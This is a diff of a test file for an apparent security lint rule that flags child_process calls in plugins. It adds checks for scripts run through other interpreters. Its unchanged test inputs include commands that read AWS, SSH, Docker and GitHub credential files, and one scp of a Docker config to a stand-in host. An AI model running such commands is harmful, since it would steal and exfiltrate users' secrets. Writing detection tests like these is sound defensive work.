@@ -7,6 +7,7 @@ const unread = (line: number, column: number) => ({ messageId: 'unreadCode', lin
 const dump = (line: number, column: number) => ({ messageId: 'environmentDump', line, column });
 const folderUse = (line: number, column: number) => ({ messageId: 'folderUse', line, column });
 const secret = (line: number, column: number) => ({ messageId: 'secretArgument', line, column });
+const foreign = (line: number, column: number) => ({ messageId: 'foreignScript', line, column });
 const CP = 'const cp = require("child_process");\n';
 
 tester.run('no-child-process', rule, {
@@ -129,7 +130,7 @@ tester.run('no-child-process', rule, {
     { code: CP + 'cp.spawn("node", ["build.js"], { env: { ...process.env, NODE_OPTIONS: "--max-old-space-size=4096", GIT_PAGER: "cat", EDITOR: "code --wait" } });', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.execFile("npm", ["view", "notes-sync", "version"], () => {});\ncp.execFile("npm", ["install", "--no-save", "left-pad@1.3.0"], () => {});', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.execFileSync("printenv", ["HOME"]);\ncp.execSync("env FORCE_COLOR=0 npm ls");\ncp.execFileSync("ps", ["-e", "-o", "pid,comm"]);', ...cjs, errors: [cp(1, 12)] },
-    { code: CP + 'cp.spawn("bash", [], { stdio: "inherit" });\ncp.spawn("python3", ["tool.py"]);\ncp.spawnSync("python3", ["tool.py"], { input: "" });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.spawn("bash", [], { stdio: "inherit" });\ncp.spawn("python3", ["tool.py"]);\ncp.spawnSync("python3", ["tool.py"], { input: "" });', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1)] },
     { code: CP + 'exports.activate = (ctx) => cp.execFileSync("tar", ["czf", "backup.tgz", "notes"], { cwd: require("path").join(ctx.dataDir, "store") });\ncp.execFileSync("ls", ["-la"], { cwd: __dirname });', ...cjs, errors: [cp(1, 12)] },
     // A program the plugin wrote itself (data folder, tmp) or one the gate cannot name is code it never read.
     { code: CP + 'exports.activate = (ctx) => { const f = require("path").join(ctx.dataDir, "git-helper"); cp.execFile(f, () => {}); };', ...cjs, errors: [cp(1, 12), { ...unread(2, 90), data: { callee: 'child_process.execFile', command: "'$data/git-helper'", reason: 'the program is a file in a folder the plugin itself writes' } }] },
@@ -155,6 +156,11 @@ tester.run('no-child-process', rule, {
     { code: CP + 'cp.execFileSync("find", ["/home", "-path", "*/.aws/credentials", "-exec", "cat", "{}", "+"]);', ...cjs, errors: [cp(1, 12), { ...secret(2, 1), data: { callee: 'child_process.execFileSync', command: "'find /home -path */.aws/credentials -exec cat {} +'", path: '*/.aws/credentials', reason: 'AWS credentials' } }] },
     { code: CP + 'const { spawnSync: run } = cp;\nrun("scp", [require("os").homedir() + "/.docker/config.json", "u@x.example:"]);', ...cjs, errors: [cp(1, 12), secret(3, 1)] },
     { code: CP + 'cp.execFile("openssl", ["dgst", "--key=~/.ssh/id_" + "ed25519"]);\ncp.exec("cp ~/.config/gh/hosts.yml /tmp/x && true");', ...cjs, errors: [cp(1, 12), secret(2, 1), secret(3, 1)] },
+    // A script in a language the gate does not read is code it cannot vouch for, however the interpreter is named.
+    { code: CP + 'cp.execFile("python3", [require("path").join(__dirname, "tools", "sync.py")]);', ...cjs, errors: [cp(1, 12), { ...foreign(2, 1), data: { callee: 'child_process.execFile', command: "'python3 /__plugin__/tools/sync.py'", path: '/__plugin__/tools/sync.py' } }] },
+    { code: CP + 'const tool = "/usr/bin/" + "ruby";\ncp.spawnSync(tool, ["-W0", "lib/hook.rb"]);\ncp.execFileSync("C:\\\\Python312\\\\pythonw.exe", ["-u", "helper.pyw"]);\ncp.spawn("java", ["-jar", "vendor/x.jar"]);', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1), foreign(5, 1)] },
+    // Look-alikes: an interpreter run for its version or a module by name; only the load is reported.
+    { code: CP + 'cp.execFileSync("python3", ["-m", "pip", "--version"]);\ncp.execFileSync("perl", ["-v"]);\ncp.execFileSync("java", ["-cp", "lib/a.jar", "Main"]);', ...cjs, errors: [cp(1, 12)] },
     // Look-alikes: ordinary paths, a secret's name as a grep pattern (only the load is reported).
     { code: CP + 'cp.execFileSync("git", ["-C", require("os").homedir() + "/projects/app", "status"]);\ncp.execFileSync("grep", ["-r", "ssh", "docs"]);\ncp.execFileSync("ls", ["~/.sshd-notes"]);', ...cjs, errors: [cp(1, 12)] },
     // A file Node reads its options from (an env file's NODE_OPTIONS, a config file, OpenSSL's engines) loads code too.
